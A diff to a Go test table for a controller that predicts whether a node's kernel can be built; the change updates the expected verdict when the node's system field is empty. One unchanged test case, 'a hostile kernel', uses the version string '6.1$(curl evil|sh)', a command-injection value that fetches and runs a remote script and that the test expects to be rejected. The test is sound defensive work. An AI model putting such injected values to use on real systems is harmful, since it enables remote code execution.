@@ -33,7 +33,7 @@ func TestWhatTheControllerWillDoIsForetoldByItsRecipes(t *testing.T) {
 		"a script of one's own":         {verdict.Supply{AnySystem: true}, node("6.1.0", "amd64", "Buildroot 2021"), verdict.WillBeBuilt, verdict.ToBeBuilt},
 		"a kernel that is too new":      {verdict.Supply{}, node("99.1.0", "amd64", debian), verdict.Unknown, verdict.BuildUntried},
 		"a hostile kernel":              {verdict.Supply{}, node("6.1$(curl evil|sh)", "amd64", debian), verdict.CannotBeBuilt, verdict.BuildUnsupported},
-		"no system":                     {verdict.Supply{}, node("6.1.0", "amd64", ""), verdict.CannotBeBuilt, verdict.BuildUnsupported},
+		"no system":                     {verdict.Supply{}, node("6.1.0", "amd64", ""), verdict.Unknown, verdict.BuildUntried},
 		"an unread status":              {verdict.Supply{Unread: "forbidden"}, node("6.1.0", "amd64", debian), verdict.Unknown, verdict.SupplyUnknown},
 		"another architecture":          {verdict.Supply{}, node("6.1.0", "s390x", debian), verdict.No, verdict.ArchUnsupported},
 		"built":                         {told(supply.KernelStatus{State: supply.Built, Version: "8.9.0"}), node("6.1.0", "amd64", debian), verdict.Yes, ""},
